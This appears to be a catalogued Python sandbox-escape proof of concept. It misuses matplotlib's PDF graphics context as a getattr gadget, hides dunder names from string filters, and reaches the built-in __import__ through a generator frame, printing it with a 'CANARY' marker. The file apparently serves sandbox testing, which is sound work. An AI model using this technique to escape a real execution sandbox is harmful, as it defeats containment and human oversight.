# class: string-address
# mechanism: getattr
# how: the graphics context for PDF reads of another object the attributes that its `commands` name, keeps them and hands them to a function that stands beside them: getattr() and setattr() under any name, of anything
# reaches: built-in __import__
import io
import matplotlib.pyplot as plt
import pandas as pd
from matplotlib.artist import Artist

got = []

def take(gc, value):
    got.append(value)
    return []

class Bag:
    def __init__(self):
        self.gi_frame = None
        self.f_builtins = None

def numbers():
    yield 1

def read(gc, thing, name):
    gc.commands = (((name,), take),)
    gc.delta(thing)
    return got[-1]

class Mark(Artist):
    def draw(self, renderer):
        gc = renderer.new_gc()
        mark = pd.Series(["_"]).sum() * 2
        read(gc, Bag(), mark + "dict" + mark)
        frame = read(gc, numbers(), "gi_frame")
        names = read(gc, frame, "f_builtins")
        print("CANARY", names[mark + "import" + mark])

fig, ax = plt.subplots()
ax.add_artist(Mark())
fig.savefig(io.BytesIO(), format="pdf")
